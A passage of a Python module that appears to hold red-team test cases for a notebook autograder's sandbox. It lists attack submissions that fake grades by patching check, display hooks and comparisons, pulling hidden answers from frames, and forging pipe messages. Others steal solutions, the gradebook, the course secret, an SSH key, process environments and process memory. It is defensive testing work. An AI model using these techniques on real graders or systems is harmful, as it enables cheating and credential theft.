"""The hostile submissions, as data.

Every attack starts from the sample class's unit (solved, as released, or with wrong answers throughout), changes it,
and names what it would be worth if it were honest, the defence that it targets, and how it is shown to work where that
defence is absent.
"""

# ruff: noqa: E501  (a cell of a student's is easier to read in one string than in pieces)

from __future__ import annotations

import json
import textwrap
from collections.abc import Callable, Mapping
from copy import deepcopy
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import naive
import nbformat
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output

from grader.classroom.submission import grade_id
from grader.demo import sample
from grader.demo.sample import Student

from support import SAMPLE

ROOT = Path(__file__).parent.parent.parent
UNIT = sample.UNIT
SOLUTION = nbformat.read(sample.COURSE / "solutions" / UNIT / f"{UNIT}.ipynb", as_version=4)
RELEASED = nbformat.read(sample.COURSE / "exercises" / UNIT / f"{UNIT}.ipynb", as_version=4)
POINTS = {
    grade_id(cell): float(cell.metadata.nbgrader.points)
    for cell in RELEASED.cells
    if cell.metadata.get("nbgrader", {}).get("grade")
}
FULL, NOTHING = POINTS, dict.fromkeys(POINTS, 0.0)
MIDDLE = "answer-05-one_row"  # own cells go in before this one: four questions come before it, eight after
BEFORE_MIDDLE = ("05-predict_error", "05-weight_the_outputs", "05-scalar_trick", "05-backward_gradient")

_WRONG = {
    "vjp.predict_error": 'return "e"',
    "vjp.weight_the_outputs": "weight = torch.zeros_like(y)",
    "vjp.scalar_trick": "number = (0 * y).sum()",
    "vjp.backward_gradient": "x.grad = torch.zeros_like(x)",
    "vjp.one_row": "weight = torch.zeros_like(y)",
    "vjp.ones_sum_the_rows": "return [0, 0, 0]",
    "vjp.several_outputs": "return torch.zeros_like(x)",
    "vjp.several_inputs": "return torch.zeros_like(A), torch.zeros_like(x)",
    "vjp.mend_the_weight": "return torch.zeros_like(x)",
    "vjp.weight_that_depends_on_x": "return torch.zeros_like(x)",
    "vjp.rebuild_jacobian": "return torch.zeros(len(f(x)), len(x), dtype=x.dtype)",
    "vjp.transfer": "return torch.zeros_like(X)",
}
BASES = {
    "solved": Student("solved", ""),
    "released": Student("released", "", undone=tuple(_WRONG)),
    "wrong": Student("wrong", "", wrong={id: (answer, 0.0, "") for id, answer in _WRONG.items()}),
}
HONEST = {"solved": FULL, "released": NOTHING, "wrong": NOTHING}

Change = Callable[[NotebookNode], None]


@dataclass(frozen=True)
class Attack:
    """One hostile submission.

    does: in a line.  defence: what it targets.
    base: a key of BASES; change and file: what is done to that notebook and to its bytes.
    honest: scores that differ from the base's where all is honest.  exact: it must get those, no less.
    proof: what shows that it worked, a function of test_redteam.Seen: scored, told, through, changed, alive, raised, unlike.
    shown: how that is shown without the defence: "kernel" (judged in the student's process), "asserts" (the same with
        an author's asserts in place of check), "unconfined" (the sandbox without its layers and with other limits),
        "believed" (the outputs that a fork sends are scored as nbgrader reads them), "generous" (every check is posed what
        it asks for, as often as it asks), "unescaped" (cards quote as they are told), "plain" (read as nbgrader reads
        it, then in-kernel), "neighbour" (an honest notebook after it in the same process), or a function.
    limits: of the run, beside tests' usual ones.
    """

    name: str
    family: str
    does: str
    defence: str
    change: Change | None = None
    base: str = "solved"
    file: Callable[[str], bytes] | None = None
    honest: Mapping[str, float] = field(default_factory=dict)
    exact: bool = True
    proof: str = "told"
    shown: str | Callable[[Path], bool] = "unconfined"
    limits: Mapping[str, Any] = field(default_factory=dict)

    def scores(self) -> dict[str, float]:
        """What it would get if it were honest."""
        return {**HONEST[self.base], **self.honest}

    def submission(self, prelude: str) -> bytes:
        """The bytes that are handed in.  prelude: names of places outside, for the code of the attack."""
        nb = nbformat.reads(BASES[self.base].submission(SOLUTION, RELEASED).decode(), as_version=4)
        if self.change:
            self.change(nb)
        nb.cells.insert(1, new_code_cell(prelude, id="prelude"))
        text = nbformat.writes(nb)
        return self.file(text) if self.file else text.encode()


# --- ways to change a notebook


def clean(code: str) -> str:
    return textwrap.dedent(code).strip("\n")


def place(nb: NotebookNode, id: str) -> int:
    return next(k for k, cell in enumerate(nb.cells) if grade_id(cell) == id)


def own(code: str, before: str = MIDDLE) -> Change:
    """A cell of the student's own."""
    return lambda nb: nb.cells.insert(place(nb, before), new_code_cell(clean(code), id=f"own-{len(nb.cells)}"))


def start(code: str) -> Change:
    """A cell of the student's own behind the first, the one with the imports."""
    return lambda nb: nb.cells.insert(2, new_code_cell(clean(code), id=f"own-{len(nb.cells)}"))


def answer(code: str, name: str = "scalar_trick") -> Change:
    """Another answer."""
    return lambda nb: nb.cells[place(nb, f"answer-05-{name}")].update(source=clean(code))


def both(*changes: Change) -> Change:
    def change(nb: NotebookNode) -> None:
        for each in changes:
            each(nb)

    return change


def tried(code: str) -> Change:
    """Code whose refusal is caught and printed, so that the notebook goes on."""
    inner = textwrap.indent(clean(code), "    ")
    return own(f"try:\n{inner}\nexcept BaseException as why:\n    print(type(why), why)")


def by_call(code: str) -> Change:
    """The same inside an answer, while inputs are at hand."""
    inner = textwrap.indent(clean(code), "        ")
    head = "def one_row(f, x, i):\n    try:\n"
    tail = "\n    except BaseException as why:\n        print(type(why), why)\n"
    rest = "    y = f(x)\n    return torch.autograd.grad(y[i], x)[0]"
    return answer(head + inner + tail + rest, "one_row")


def metadata(**values: object) -> Change:
    def change(nb: NotebookNode) -> None:
        for cell in nb.cells:
            if cell.metadata.get("nbgrader", {}).get("grade"):
                cell.metadata.nbgrader.update(values)

    return change


def cell(id: str, **values: object) -> Change:
    return lambda nb: nb.cells[place(nb, id)].update(values)


def without(*ids: str) -> Change:
    def change(nb: NotebookNode) -> None:
        nb.cells = [cell for cell in nb.cells if grade_id(cell) not in ids]

    return change


def as_json(edit: Callable[[dict[str, Any]], Any]) -> Callable[[str], bytes]:
    def file(text: str) -> bytes:
        data = json.loads(text)
        edit(data)
        return json.dumps(data).encode()

    return file


GOES_THROUGH = 'print("went" + " through")'
IN_THE_NEXT_CELL = "# and goes on"  # of attacks whose breach is found when their cell has ended, at the latest

# --- Fake the result

_RETURN = "def weighted_gradient_by_a_number(f, x, v):\n"
_ZERO = "def weighted_gradient_by_a_number(f, x, v):\n    return torch.zeros_like(x)\n"

_VERDICT = """
import grader.judge, grader.student
def fake(question, answer, seed=None):
    return grader.judge.Verdict(question.id, question.title, "correct", question.points, question.points)
grader.student._diagnose = fake
"""

_TRUTH_IN_FRAMES = """
import sys
def weighted_gradient_by_a_number(f, x, v):
    frame = sys._getframe()
    while frame:
        for value in frame.f_locals.values():
            if type(value).__name__ == "Problem":
                return torch.from_numpy(value.truth.copy())
        frame = frame.f_back
    return torch.zeros_like(x)
"""

_TRUTH_IN_GC = """
import gc
def weighted_gradient_by_a_number(f, x, v):
    for thing in gc.get_objects():
        if type(thing).__name__ == "Problem" and "v" in thing.weights:
            if thing.weights["v"].shape == v.shape and (thing.weights["v"].ravel() == v.detach().numpy()).all():
                return torch.from_numpy(thing.truth.copy())
    return torch.zeros_like(x)
"""

_TRUTH_BY_IMPORT = """
def weighted_gradient_by_a_number(f, x, v):
    try:
        from grader.student import find
        for p in find("vjp.scalar_trick").problems():
            if p.inputs["x"].shape == x.shape and torch.allclose(p.inputs["x"], x):
                return torch.from_numpy(p.truth.copy())
    except Exception:
        pass
    return torch.zeros_like(x)
"""

_TRUTH_BY_TRACE = """
import sys
found = []
def spy(frame, event, argument):
    for value in frame.f_locals.values():
        if type(value).__name__ == "Problem":
            found.append(value)
    return spy
def nothing(f, x, v):
    return torch.zeros_like(x)
sys.settrace(spy)
try:
    check("vjp.scalar_trick", nothing)
finally:
    sys.settrace(None)
"""
_TRACED = """
def weighted_gradient_by_a_number(f, x, v):
    for p in found:
        if "x" in p.inputs and p.inputs["x"].shape == x.shape and torch.allclose(p.inputs["x"], x):
            return torch.from_numpy(p.truth.copy())
    return torch.zeros_like(x)
"""


ELSEWHERE = 7  # the seed that somebody else met


def _memorised(nb: NotebookNode, seed: int = 0) -> None:
    """The truths at a seed, the visible problems' unless said otherwise, written down and looked up by x."""
    known = [(p.inputs["x"].tolist(), p.truth.tolist()) for p in SAMPLE.questions["vjp.scalar_trick"].problems(seed)]
    answer(
        f"known = {known!r}\n"
        "def weighted_gradient_by_a_number(f, x, v):\n"
        "    for inputs, truth in known:\n"
        "        if len(inputs) == len(x) and torch.allclose(torch.tensor(inputs, dtype=x.dtype), x):\n"
        "            return torch.tensor(truth, dtype=x.dtype)\n"
        "    return torch.zeros_like(x)\n"
    )(nb)


_PIPE = """
import functools, gc, json, socket, struct, sys
@functools.cache
def pipe():
    sockets = [thing for thing in gc.get_objects() if type(thing) is socket.socket and thing.fileno() > 2]
    (found,) = [thing for thing in sockets if thing.gettimeout() != 0]  # asyncio has a pair of its own, which never waits
    return found
def frame(message, blob=b""):
    text = message if isinstance(message, bytes) else json.dumps(message).encode()
    return struct.pack("!II", len(text), len(blob)) + text + blob
def receive():
    size, blob = struct.unpack("!II", pipe().recv(8, socket.MSG_WAITALL))
    text = pipe().recv(size, socket.MSG_WAITALL) if size else b""
    return json.loads(text), pipe().recv(blob, socket.MSG_WAITALL) if blob else b""
SCORE = [{"output_type": "execute_result", "data": {"text/plain": "1.0"}, "metadata": {}}]
"""


def over_the_pipe(code: str, before: str = MIDDLE) -> Change:
    """Student's code that takes the pipe and speaks the protocol itself."""
    return both(start(_PIPE), own(code, before))


def in_check(code: str, name: str = "scalar_trick") -> Change:
    """Another ``check``, which takes the pipe and speaks the protocol itself."""
    head = "def check(id, answer):\n"
    return both(start(_PIPE), own(head + textwrap.indent(clean(code), "    "), f"answer-05-{name}"))


_FAKES = [
    Attack(
        "check_redefined",
        "fake",
        "puts another function in the place of check, which returns a number",
        "judged outside: what a graded cell displays is not its score",
        start("def check(id, answer):\n    return 1.0"),
        base="wrong",
        proof="scored",
        shown="kernel",
    ),
    Attack(
        "check_silent",
        "fake",
        "check shows nothing, which nbgrader takes for full marks",
        "judged outside: silence is worth 0",
        start("check = lambda id, answer: None"),
        base="wrong",
        proof="scored",
        shown="kernel",
    ),
    Attack(
        "check_nan",
        "fake",
        "check returns NaN, which nbgrader takes for full marks",
        "judged outside: the trusted side writes the number",
        start('check = lambda id, answer: float("nan")'),
        base="wrong",
        proof="scored",
        shown="kernel",
    ),
    Attack(
        "check_negative",
        "fake",
        "check returns -1, which nbgrader takes for full marks",
        "judged outside: the trusted side writes the number",
        start("check = lambda id, answer: -1.0"),
        base="released",
        proof="scored",
        shown="kernel",
    ),
    Attack(
        "check_patched_in_package",
        "fake",
        "replaces grader.check before the notebook imports it again",
        "judged outside",
        start("import grader\ngrader.check = lambda id, answer: 1.0\nfrom grader import check"),
        base="released",
        proof="scored",
        shown="kernel",
    ),
    Attack(
        "displayhook",
        "fake",
        "an answer calls sys.displayhook with a number before the card is shown",
        "judged outside: a graded cell's own outputs are replaced",
        answer(f"import sys\n{_RETURN}    sys.displayhook(2.0)\n    return torch.zeros_like(x)"),
        base="wrong",
        proof="scored",
        shown="kernel",
    ),
    Attack(
        "displayhook_nan",
        "fake",
        "an answer calls sys.displayhook with NaN, which nbgrader takes for full marks",
        "judged outside: a graded cell's own outputs are replaced",
        answer(f"import sys\n{_RETURN}    sys.displayhook(float('nan'))\n    return torch.zeros_like(x)"),
        base="wrong",
        proof="scored",
        shown="kernel",
    ),
    Attack(
        "displayed_number",
        "fake",
        "a last expression hook: every expression's result becomes a number",
        "judged outside: a graded cell's own outputs are replaced",
        start(
            "ip = get_ipython()\nhook = ip.displayhook\nold = type(hook).__call__\n"
            "type(hook).__call__ = lambda self, result=None: old(self, 1.0)"
        ),
        base="wrong",
        proof="scored",
        shown="kernel",
    ),
    Attack(
        "judge_replaced",
        "fake",
        "replaces the function that judges by one that says correct",
        "the judge is not in the fork",
        start(f"try:\n{textwrap.indent(_VERDICT, '    ')}\nexcept Exception as why:\n    print(why)"),
        base="wrong",
        proof="scored",
        shown="kernel",
    ),
    Attack(
        "comparison_replaced",
        "fake",
        "replaces the judge's comparison by one that always holds",
        "the judge is not in the fork",
        start(
            "try:\n    import grader.judge\n    grader.judge.alike = lambda *a: True\nexcept Exception as why:\n    print(why)"
        ),
        base="wrong",
        proof="scored",
        shown="kernel",
    ),
    Attack(
        "numpy_all_replaced",
        "fake",
        "an answer makes numpy.all return True from now on",
        "comparisons run in another process",
        answer(f"{_RETURN}    import numpy\n    numpy.all = lambda *a, **k: True\n    return torch.zeros_like(x)"),
        base="wrong",
        proof="scored",
        shown="kernel",
    ),
    Attack(
        "tolerance_replaced",
        "fake",
        "every Question gets a tolerance of 1e9",
        "questions are not in the fork",
        start(
            "try:\n    from grader.student import questions\n    for q in questions():\n"
            "        object.__setattr__(q, 'rtol', 1e9)\nexcept Exception as why:\n    print(why)"
        ),
        base="wrong",
        proof="scored",
        shown="kernel",
    ),
    Attack(
        "probe_replaced",
        "fake",
        "replaces the probe by one that takes the truth from the judge's frame",
        "the truth is not in the fork: a forged answer is worth what it holds",
        start("""
            import sys, grader.probe
            real = grader.probe.probe
            def forged(answer, call):
                frame = sys._getframe(1)
                while frame:
                    for value in list(frame.f_locals.values()):
                        if type(value).__name__ == "Problem" and value.call is call:
                            truth = value.truth
                            if not isinstance(truth, (str, tuple)):
                                return grader.probe.Answer(value=grader.probe.plain(torch.from_numpy(truth.copy())))
                    frame = frame.f_back
                return real(answer, call)
            for module in list(sys.modules.values()):
                if getattr(module, "probe", None) is real:
                    module.probe = forged
        """),
        base="wrong",
        proof="scored",
        shown="kernel",
    ),
    Attack(
        "allclose_replaced",
        "fake",
        "torch.allclose returns True",
        "comparisons run in another process",
        start("torch.allclose = lambda *a, **k: True"),
        base="wrong",
        proof="scored",
        shown="asserts",
    ),
    Attack(
        "isinstance_replaced",
        "fake",
        "builtins.isinstance and the builtin tuple say what the test wants to hear of an object that is no tensor",
        "comparisons run in another process",
        both(
            start(
                "import builtins\nreal = isinstance\ntorch.allclose = lambda *a: True\n"
                "builtins.isinstance = lambda thing, kind: type(thing).__name__ == 'Anything' or real(thing, kind)"
            ),
            answer(f"class Anything:\n    shape = (3,)\n{_RETURN}    return Anything()"),
        ),
        base="wrong",
        proof="scored",
        shown="asserts",
    ),
    Attack(
        "class_that_lies",
        "fake",
        "an object whose __class__ is Tensor, and which torch's functions ask what they are to return",
        "only plain arrays cross the boundary",
        answer("""
            class Lies:
                __class__ = torch.Tensor
                shape = (3,)
                @classmethod
                def __torch_function__(cls, function, types, args=(), kwargs=None):
                    return True
            def weighted_gradient_by_a_number(f, x, v):
                return Lies()
        """),
        base="wrong",
        proof="scored",
        shown="asserts",
    ),
    Attack(
        "grad_replaced",
        "fake",
        "torch.autograd.grad returns zeros to whoever computes what is true with it",
        "references are computed in another process",
        start("torch.autograd.grad = lambda y, x, *a, **k: (torch.zeros_like(x),)"),
        base="wrong",
        proof="scored",
        shown="asserts_by_grad",
    ),
    Attack(
        "backward_replaced",
        "fake",
        "Tensor.backward leaves zeros for whoever computes what is true with it",
        "references are computed in another process",
        start(
            "import gc\ndef backward(self, *a, **k):\n    for t in gc.get_objects():\n"
            "        if type(t) is torch.Tensor and t.is_leaf and t.requires_grad:\n            t.grad = torch.zeros_like(t)\n"
            "torch.Tensor.backward = backward"
        ),
        base="wrong",
        proof="scored",
        shown="asserts_by_backward",
    ),
    Attack(
        "comparisons_rewritten",
        "fake",
        "an AST transformer makes every comparison and every allclose True",
        "comparisons run in another process",
        start("""
            import ast
            class Agree(ast.NodeTransformer):
                def visit_Assert(self, node):
                    node.test = ast.copy_location(ast.Constant(True), node.test)
                    return node
            get_ipython().ast_transformers.append(Agree())
        """),
        base="wrong",
        proof="scored",
        shown="asserts",
    ),
    Attack(
        "asserts_dropped",
        "fake",
        "an AST transformer drops every assert and every call of check",
        "judged outside: no result is worth 0",
        start("""
            import ast
            class Drop(ast.NodeTransformer):
                def visit_Assert(self, node):
                    return ast.Pass()
            get_ipython().ast_transformers.append(Drop())
        """),
        base="wrong",
        proof="scored",
        shown="asserts",
    ),
    Attack(
        "cells_emptied",
        "fake",
        "an input transformer empties every cell that checks",
        "judged outside: no result is worth 0",
        start(
            "get_ipython().input_transformers_cleanup.append(\n"
            "    lambda lines: [] if any('check(' in line for line in lines) else lines)"
        ),
        base="wrong",
        proof="scored",
        shown="kernel",
    ),
    Attack(
        "run_code_stubbed",
        "fake",
        "the shell's run_code does nothing from now on",
        "judged outside: no result is worth 0",
        start("""
            async def nothing(self, *a, **k):
                return False
            type(get_ipython()).run_code = nothing
        """),
        base="released",
        proof="scored",
        shown="kernel",
    ),
    Attack(
        "traceback_stubbed",
        "fake",
        "failed tests show no traceback, so the cell looks as if it had passed",
        "judged outside: a score comes from answers, not from the absence of errors",
        start(
            "type(get_ipython())._showtraceback = lambda *a, **k: None\n"
            "type(get_ipython()).showtraceback = lambda *a, **k: None"
        ),
        base="wrong",
        proof="scored",
        shown="asserts",
    ),
    Attack(
        "equal_to_everything",
        "fake",
        "returns a tensor of a subclass that agrees with whatever it is compared with",
        "only plain arrays cross the boundary",
        answer("""
            class Agrees(torch.Tensor):
                @classmethod
                def __torch_function__(cls, function, types, args=(), kwargs=None):
                    if function is torch.allclose:
                        return True
                    return super().__torch_function__(function, types, args, kwargs or {})
            def weighted_gradient_by_a_number(f, x, v):
                return torch.zeros(x.shape, dtype=x.dtype).as_subclass(Agrees)
        """),
        base="wrong",
        proof="scored",
        shown="asserts",
    ),
    Attack(
        "lying_shape",
        "fake",
        "a tensor subclass of one entry that says it has three, and broadcasts",
        "only plain arrays cross the boundary",
        both(
            start("torch.allclose = lambda a, b, **k: bool((abs(torch.Tensor(a) - torch.Tensor(b)) < 1e9).all())"),
            answer("""
                class Lies(torch.Tensor):
                    @property
                    def shape(self):
                        return torch.Size([3])
                def weighted_gradient_by_a_number(f, x, v):
                    return torch.zeros(1, dtype=x.dtype).as_subclass(Lies)
            """),
        ),
        base="wrong",
        proof="scored",
        shown="asserts",
    ),
    Attack(
        "stack_walk",
        "fake",
        "an answer walks up the frames to the Problem and returns its truth",
        "no Problem in the fork",
        answer(_TRUTH_IN_FRAMES),
        base="wrong",
        proof="scored",
        shown="kernel",
    ),
    Attack(
        "gc_walk",
        "fake",
        "an answer finds the Problem among all objects and returns its truth",
        "no Problem in the fork",
        answer(_TRUTH_IN_GC),
        base="wrong",
        proof="scored",
        shown="kernel",
    ),
    Attack(
        "questions_imported",
        "fake",
        "an answer imports the questions and computes the truth with the reference",
        "questions can be neither imported nor read",
        answer(_TRUTH_BY_IMPORT),
        base="wrong",
        proof="scored",
        shown="kernel",
    ),
    Attack(
        "traceback_walk",
        "fake",
        "an answer raises, and climbs from its own traceback to the Problem",
        "no Problem in the fork",
        answer("""
            def weighted_gradient_by_a_number(f, x, v):
                try:
                    raise ValueError
                except ValueError as error:
                    frame = error.__traceback__.tb_frame
                while frame:
                    for value in frame.f_locals.values():
                        if type(value).__name__ == "Problem":
                            return torch.from_numpy(value.truth.copy())
                    frame = frame.f_back
                return torch.zeros_like(x)
        """),
        base="wrong",
        proof="scored",
        shown="kernel",
    ),
    Attack(
        "traced",
        "fake",
        "sys.settrace notes every Problem during a first check and answers from that",
        "no Problem in the fork",
        both(own(_TRUTH_BY_TRACE, "answer-05-scalar_trick"), answer(_TRACED)),
        base="wrong",
        proof="scored",
        shown="kernel",
    ),
    Attack(
        "visible_answers_memorised",
        "fake",
        "a table of the visible problems' truths",
        "hidden inputs follow from the course's secret and the submission",
        _memorised,
        base="wrong",
        proof="scored",
        shown="kernel",
    ),
    Attack(
        "inputs_of_another_memorised",
        "fake",
        "a table of the truths for the hidden inputs that somebody else met",
        "hidden inputs follow from the student and the submission",
        lambda nb: _memorised(nb, ELSEWHERE),
        base="wrong",
        proof="scored",
        shown="one_seed",
    ),
    Attack(
        "oracle_of_a_second_check",
        "fake",
        "tries answers with check and keeps the one whose card says full marks",
        "check tells nothing in grading",
        both(
            own(
                """
                def make(k):
                    def refused():
                        return k
                    return refused
                tries = ["a", "b", "ab", "ac", "bc", "acd"]
                def points(k):
                    try:
                        return float(repr(check("vjp.predict_error", make(k))))
                    except ValueError:
                        return 0.0
                best = max(tries, key=points)
            """,
                "answer-05-predict_error",
            ),
            answer('def refused():\n    return best if points(best) else "e"', "predict_error"),
        ),
        base="wrong",
        proof="scored",
        shown="kernel",
    ),
    Attack(
        "os_exit",
        "fake",
        "leaves with status 0 before a test runs",
        "a score comes from answers, not from an exit status",
        own("import os\nanswer = 0\nos._exit(0)"),
        honest={id: 0.0 for id in POINTS if id not in BEFORE_MIDDLE},
        proof="scored",
        shown=lambda folder: naive.by_exit_status("import os\nos._exit(0)", folder) > 0,
    ),
    Attack(
        "exit_by_libc",
        "fake",
        "leaves with status 0 by the C library, of which Python hears nothing",
        "a score comes from answers, not from an exit status",
        own("import ctypes\nctypes.CDLL(None).exit(0)"),
        honest={id: 0.0 for id in POINTS if id not in BEFORE_MIDDLE},
        proof="scored",
        shown=lambda folder: naive.by_exit_status("import ctypes\nctypes.CDLL(None).exit(0)", folder) > 0,
    ),
    Attack(
        "printed_and_left",
        "fake",
        "prints what the grader would print, and leaves before it can",
        "what is printed is no score",
        own("import os\nprint('SCORE 24.0', flush=True)\nos._exit(0)"),
        honest={id: 0.0 for id in POINTS if id not in BEFORE_MIDDLE},
        proof="scored",
        shown=lambda folder: naive.by_last_line("import os\nprint('SCORE 1.0', flush=True)\nos._exit(0)", folder) > 0,
    ),
    Attack(
        "atexit_overwrites",
        "fake",
        "prints a better score when the process ends, after the true one",
        "what is printed is no score",
        own("import atexit\natexit.register(print, 'SCORE 24.0')"),
        proof="scored",
        shown=lambda folder: (
            naive.by_last_line("import atexit\nanswer = 0\natexit.register(print, 'SCORE 1.0')", folder) > 0
        ),
    ),
    Attack(
        "thread_overwrites",
        "fake",
        "a thread prints a better score after the true one",
        "what is printed is no score; a thread's prints are the student's own outputs",
        own("import threading\nthreading.Timer(0.05, print, ['SCORE 24.0']).start()"),
        proof="scored",
        shown=lambda folder: (
            naive.by_last_line("import threading\nanswer = 0\nthreading.Timer(1, print, ['SCORE 1.0']).start()", folder)
            > 0
        ),
    ),
    Attack(
        "child_overwrites",
        "fake",
        "a forked child waits and then prints a better score",
        "seccomp: no fork",
        tried("import os, time\nif not os.fork():\n    time.sleep(1)\n    print('SCORE 24.0')\n    os._exit(0)"),
        proof="scored",
        shown=lambda folder: (
            naive.by_last_line(
                "import os, time\nanswer = 0\nif not os.fork():\n    time.sleep(1)\n    print('SCORE 1.0', flush=True)\n"
                "    os._exit(0)\n",
                folder,
            )
            > 0
        ),
    ),
    Attack(
        "forged_done",
        "fake",
        "check takes the pipe and sends the end of the cell, with a score as its output",
        "a graded cell's outputs are not its score",
        in_check('pipe().sendall(frame({"done": SCORE}))'),
        base="wrong",
        exact=False,
        proof="scored",
        shown="believed",
    ),
    Attack(
        "forged_ahead",
        "fake",
        "sends the ends of all cells to come, each with a score",
        "a graded cell's outputs are not its score",
        over_the_pipe('for _ in range(20):\n    pipe().sendall(frame({"done": SCORE}))'),
        base="wrong",
        exact=False,
        proof="scored",
        shown="believed",
    ),
    Attack(
        "forged_output",
        "fake",
        "the sandbox's own list of outputs gets a score put in front",
        "a graded cell's outputs are not its score",
        start("""
            import gc
            for thing in gc.get_objects():
                if type(thing).__name__ == "_Outputs":
                    def begin(limit, self=thing):
                        self.list[:] = []
                        self.list = [{"output_type": "execute_result", "data": {"text/plain": "1.0"}, "metadata": {}}]
                        self.left = limit
                    thing.begin = begin
        """),
        base="wrong",
        proof="scored",
        shown="believed",
    ),
]


_FRAMES = [
    Attack(
        "forged_score",
        "fake",
        "check takes the pipe and sends a message with a score of its own making",
        "the protocol has no score: what nobody asked for ends the run",
        in_check('pipe().sendall(frame({"score": 1.0, "question": id}))'),
        base="wrong",
        exact=False,
        proof="scored",
        shown="told_its_score",
    ),
    Attack(
        "answers_unasked",
        "fake",
        "sends answers in a cell of its own, where nothing was posed",
        "answers count only for what was just posed",
        over_the_pipe('pipe().sendall(frame({"answers": []}))\n' + GOES_THROUGH),
        exact=False,
        proof="through",
        shown="lenient",
    ),
    Attack(
        "answers_for_another_question",
        "fake",
        "in the cell of one question asks for the problems of another, solved one, to have its inputs",
        "a graded cell poses its own question only",
        both(
            in_check("""
                global noted
                pipe().sendall(frame({"check": "vjp.transfer"}))
                message, _ = receive()
                if "calls" in message:
                    noted = "went" + " through"
            """),
            own("print(globals().get('noted'))", "answer-05-transfer"),
        ),
        base="wrong",
        proof="through",
        shown="generous",
    ),
    Attack(
        "second_try",
        "fake",
        "answers wrong, asks again, and answers once more",
        "the first answers count, and a question is posed once",
        both(
            in_check("""
                global noted
                for _ in range(2):
                    pipe().sendall(frame({"check": id}))
                    message, _ = receive()
                    if "calls" not in message:
                        return
                    none = {"value": {"kind": "none", "dtype": "", "text": "", "type": "", "items": []}}
                    pipe().sendall(frame({"answers": [none] * len(message["calls"])}))
                noted = "went" + " through"
            """),
            own("print(globals().get('noted'))", "answer-05-transfer"),
        ),
        base="wrong",
        proof="through",
        shown="generous",
    ),
]

# --- Steal


def steal(
    name: str, does: str, code: str, defence: str = "Landlock: nothing outside can be read", **more: Any
) -> Attack:
    return Attack(name, "steal", does, defence, **{"change": tried(code), **more})


_STEALS = [
    steal("read_solutions", "reads the solutions", 'print(open(f"{CANARY}/solutions/05/05.txt").read())'),
    steal(
        "read_by_relative_path",
        "climbs up from its work folder",
        'import os\nprint(open(os.path.relpath(f"{CANARY}/solutions/05/05.txt")).read())',
    ),
    steal(
        "read_gradebook",
        "selects from the gradebook's tables",
        'import sqlite3\nprint(sqlite3.connect(f"{CANARY}/gradebook.db").execute("select * from grades").fetchall())',
    ),
    steal("read_gradebook_file", "reads the gradebook as a file", 'print(open(f"{CANARY}/gradebook.db", "rb").read())'),
    steal(
        "read_pyc",
        "reads a compiled module of a solution",
        'print(open(f"{CANARY}/code/__pycache__/stolen.pyc", "rb").read())',
    ),
    steal("read_secret", "reads the course's secret", 'print(open(f"{CANARY}/.course_secret", "rb").read())'),
    steal("read_sibling", "reads another submission", 'print(open(f"{CANARY}/submitted/ada/05/05.txt").read())'),
    steal("read_ssh_key", "reads a key in the home folder", 'print(open(f"{CANARY}/home/.ssh/id").read())'),
    steal(
        "read_in_answer",
        "reads the solutions from inside an answer",
        "",
        change=both(
            by_call('global leaked\nleaked = open(f"{CANARY}/solutions/05/05.txt").read()'),
            own('print(globals().get("leaked"))', "answer-05-ones_sum_the_rows"),
        ),
    ),
    steal(
        "read_by_memory_map",
        "maps the solutions into memory",
        'import mmap, os\nprint(mmap.mmap(os.open(f"{CANARY}/solutions/05/05.txt", 0), 0, prot=1)[:])',
    ),
    steal(
        "read_by_numpy",
        "reads with numpy's C code",
        'import numpy\nprint(numpy.fromfile(f"{CANARY}/solutions/05/05.txt", dtype="u1").tobytes())',
    ),
    steal(
        "read_by_linecache",
        "asks Python's own readers of source files",
        'import linecache\nprint(linecache.getlines(f"{CANARY}/solutions/05/05.txt"))',
    ),
    steal(
        "read_by_run",
        "runs another's file with the %run magic",
        'get_ipython().run_line_magic("run", f"{CANARY}/code/stolen.py")',
    ),
    steal(
        "read_by_import",
        "puts a foreign folder on sys.path and imports from it",
        'import sys\nsys.path.insert(0, f"{CANARY}/code")\nimport stolen\nprint(stolen.VALUE)',
    ),
    steal(
        "read_by_openat",
        "opens a folder first and the file relative to it",
        'import os\nfolder = os.open(f"{CANARY}/solutions", os.O_RDONLY)\n'
        'print(os.read(os.open("05/05.txt", os.O_RDONLY, dir_fd=folder), 999))',
    ),
    steal(
        "read_by_sendfile",
        "lets the kernel copy the solutions into a file of its own",
        'import os\nsource = os.open(f"{CANARY}/solutions/05/05.txt", 0)\ntarget = os.open("copy", os.O_CREAT | os.O_RDWR)\n'
        'os.sendfile(target, source, 0, 999)\nprint(open("copy").read())',
    ),
    steal(
        "read_by_symlink",
        "puts a symbolic link into its work folder and reads through it",
        'import os\nos.symlink(f"{CANARY}/solutions/05/05.txt", "link")\nprint(open("link").read())',
    ),
    steal(
        "read_by_hard_link",
        "puts a hard link into its work folder and reads through it",
        'import os\nos.link(f"{CANARY}/solutions/05/05.txt", "link")\nprint(open("link").read())',
    ),
    steal(
        "read_by_rename",
        "moves the solutions into its work folder",
        'import os\nos.rename(f"{CANARY}/solutions/05/05.txt", "mine")\nprint(open("mine").read())',
    ),
    steal("list_folder", "lists the submissions", 'import os\nprint(os.listdir(f"{CANARY}/submitted"))'),
    steal(
        "read_program",
        "lets another program read",
        'import subprocess\nprint(subprocess.run(["/bin/cat", f"{CANARY}/solutions/05/05.txt"], capture_output=True).stdout)',
        "seccomp: no other program",
    ),
    steal(
        "read_by_magic",
        "reads by IPython's !",
        'print(get_ipython().getoutput(f"/bin/cat {CANARY}/solutions/05/05.txt"))',
        "seccomp: no other program",
    ),
    steal(
        "read_environment_of_process",
        "reads another process's environment, where tokens are",
        'print(open(f"/proc/{VICTIM}/environ", "rb").read())',
        "Landlock: no /proc",
    ),
    steal(
        "read_memory_of_process",
        "reads another process's memory by system call",
        """
          import ctypes
          class Vector(ctypes.Structure):
              _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
          buffer = ctypes.create_string_buffer(64)
          ours, theirs = Vector(ctypes.addressof(buffer), 64), Vector(VICTIM_ADDRESS, 64)
          libc = ctypes.CDLL(None, use_errno=True)
          print(libc.process_vm_readv(VICTIM, ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0), buffer.value)
          """,
        "seccomp: no process_vm_readv",
    ),
    steal(
        "read_memory_file",
        "reads another process's memory through /proc",
        'with open(f"/proc/{VICTIM}/mem", "rb") as memory:\n    memory.seek(VICTIM_ADDRESS)\n    print(memory.read(64))',
        "Landlock: no /proc",
    ),
    steal(
        "own_environment",
        "reads tokens from its environment",
